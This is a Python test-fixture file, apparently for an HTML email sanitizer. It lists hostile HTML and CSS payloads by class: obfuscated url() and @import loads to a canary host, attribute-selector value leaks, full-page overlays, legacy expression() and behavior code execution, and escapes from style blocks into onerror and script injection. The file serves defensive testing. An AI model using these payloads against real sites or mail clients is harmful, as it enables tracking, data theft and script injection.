# ruff: noqa: E501 (a payload reads best in one line)
"""The classes of `hostile_html` that attack by style: loads, overlays, escapes from `<style>`."""

from __future__ import annotations

C = "http://canary.example"
RUN = "alert(1);parent.postMessage('pwned','*')"

_STYLES_19 = (
    f"background:url({C}/a)",
    f"background:u\\72l({C}/b)",
    f"background:\\75\\72\\6c({C}/c)",
    f"background:u/**/rl({C}/d)",
    f"background:url(\n'{C}/e')",
    f"background:url('{C}/f",
    f"back\\67round:url({C}/g)",
    f"background-image:URL({C}/h)",
    f"list-style:url({C}/i)",
    f"list-style-image:url({C}/j)",
    f"border-image:url({C}/k) 3",
    f"cursor:url({C}/l),auto",
    f"mask:url({C}/m)",
    f"clip-path:url({C}/n#x)",
    f"shape-outside:url({C}/o)",
    f"filter:url({C}/p#x)",
    f"content:url({C}/q)",
    f"color:red;background:red url({C}/r)!important",
    f"background:url({C}/s)!ie",
    f"offset-path:url({C}/t)",
    f"background:src('{C}/u')",
)

BY_CLASS: dict[int, list[str]] = {
    19: [f'<p style="{style}">x</p>' for style in _STYLES_19]
    + [f"<style>p{{{style}}}</style><p>x</p>" for style in _STYLES_19],
    20: [
        f'<p style="{style}">x</p>'
        for style in (
            f"background:image-set('{C}/x' 1x)",
            f"background:-webkit-image-set(url({C}/x) 1x)",
            f"background:cross-fade(url({C}/x),url({C}/y))",
            f"--a:url({C}/x);background:var(--a)",
            "color:var(--b,red)",
            "width:attr(title px)",
            "padding:env(safe-area-inset-top)",
            f"background:image('{C}/x')",
            "background:element(#x)",
            "background:paint(x)",
            "width:calc(1px*var(--x))",
            "color:rgb(var(--x))",
            "width:min(1px,2px)",
            f"background:-moz-element(#x),-webkit-canvas(x),type('{C}')",
        )
    ]
    + [f"<style>:root{{--a:url({C}/x)}} p{{background:var(--a)}}</style><p>x</p>"],
    21: [
        f"<style>{css}</style><p class=a>x</p>"
        for css in (
            f"@import '{C}/x';",
            f"@import url({C}/x) screen;",
            f"@\\69mport '{C}/x';",
            f"@import/**/'{C}/x';",
            f"@font-face{{font-family:a;src:url({C}/x)}}p{{font-family:a}}",
            f"@namespace x url({C}/x);",
            "@charset 'utf-7';p{color:red}",
            f"@media all{{@import '{C}/x';}}",
            f"@media all{{p{{background:url({C}/x)}}}}",
            f"@supports(color:red){{p{{background:url({C}/x)}}}}",
            f"@layer x{{p{{background:url({C}/x)}}}}",
            f"@keyframes x{{from{{background:url({C}/x)}}}}",
            f"@page{{background:url({C}/x)}}",
            f"@document url({C}){{p{{color:red}}}}",
            f"@property --x{{syntax:'*';inherits:false;initial-value:url({C}/x)}}",
            f"p{{color:red;&{{background:url({C}/x)}}}}",
            f"<!-- @import '{C}/x'; -->",
            f"@container x{{p{{background:url({C}/x)}}}}",
            f"@media screen and (min-width:0\\0){{p{{background:url({C}/x)}}}}",
        )
    ],
    22: [
        f"<style>{css}</style><a href='https://example.org/?t=1' title=a>x</a>"
        for css in (
            f"a[href*='t=1']{{background:url({C}/x)}}",
            "a[title^=a]{color:red}",
            f"input[value^=a]{{background:url({C}/x)}}",
            f":has(a[title]){{background:url({C}/x)}}",
            ":is([title]){color:red}",
            ":not([title=b]){color:red}",
            f"a:visited{{background:url({C}/x)}}",
            f"a::first-letter{{background:url({C}/x)}}",
            f"html:lang(en){{background:url({C}/x)}}",
        )
    ],
    23: [
        f'<div style="{style}">x</div>'
        for style in (
            "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999",
            "position:sticky;top:0",
            "position:absolute;inset:0",
            "margin:-9999px",
            "margin-top:-500px",
            "margin:calc(0px - 900px)",
            "width:999999px;height:999999px",
            "height:100vh;min-height:100dvh",
            "width:1e9px",
            "all:initial",
            "zoom:50",
            "transform:scale(100)",
            "translate:-100px -900px",
            "pos\\69tion:fixed",
            "position:/**/fixed",
            "float:left;top:-900px",
            "text-indent:-9999px",
            "letter-spacing:-99px",
            "pointer-events:none;cursor:none",
            "animation:x 1s infinite;transition:all 9s",
            "content-visibility:auto;contain:size",
            "display:contents;will-change:transform;mix-blend-mode:difference",
            "top:0;left:0;inset:0;z-index:1",
        )
    ]
    + [
        "<style>casilla-mail{display:none!important}.casilla-link-differs::after{content:none}</style>",
        "<style>a::after{display:none!important}a:after{content:''}html{position:fixed}</style>",
        "<style>\\63 asilla-mail{color:red}.CASILLA-quote{color:red}</style>",
        "<table width=999999 height=99999999><tr><td colspan=99999 rowspan=65534 width=-5>x</table>",
        "<img width=1e99 height='100000%' hspace=99999 border=999999>",
        "<font size=+99999>x</font><hr size=99999 width=99999999>",
    ],
    24: [
        f'<p style="{style}">x</p>'
        for style in (
            f"width:expression({RUN})",
            f"width:exp/**/ression({RUN})",
            f"width:e\\78pression({RUN})",
            f"behavior:url({C}/x.htc)",
            f"-moz-binding:url({C}/x.xml#x)",
            f"-ms-behavior:url({C}/x)",
            f"-o-link:'javascript:{RUN}';-o-link-source:current",
            f"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{C}/x')",
            f"*zoom:expression({RUN})",
            f"_height:expression({RUN})",
            "-webkit-user-modify:read-write;-webkit-app-region:drag",
        )
    ],
    25: [
        f"<style></style><script>{RUN}</script></style>",
        f"<style>p{{color:red}}</style ><img src=x onerror={RUN}>",
        f"<style>p{{font-family:'</style><img src=x onerror={RUN}>'}}</style><p>x</p>",
        f'<style>p{{font-family:"\\3c/style\\3e\\3cimg src=x onerror={RUN}\\3e"}}</style><p>x</p>',
        "<style>\\3c/style\\3e\\3cscript\\3e {color:red}</style>",
        "<style>.\\3c\\/style\\3e {color:red}</style>",
        f"<p style='font-family:\"</p><img src=x onerror={RUN}>\"'>x</p>",
        f"<p style='font-family:&quot;&#34; onmouseover={RUN} x=&quot;'>x</p>",
        f'<p style="color:red\'" onmouseover={RUN}>x</p>',
        f"<p style='a:\\0022 onload=\\0022 {RUN}'>x</p>",
        f"<style>/*</style><img src=x onerror={RUN}>*/</style>",
        f"<style><!--</style><img src=x onerror={RUN}>--></style>",
        f"<style>@media </style><img src=x onerror={RUN}>{{}}</style>",
        f"<style>p{{color:red;}}}}}}]]>*{{background:url({C}/x)}}</style>",
        f"<style>{{}}p{{color:'\n;background:url({C}/x)}}</style><p>x</p>",
    ],
}
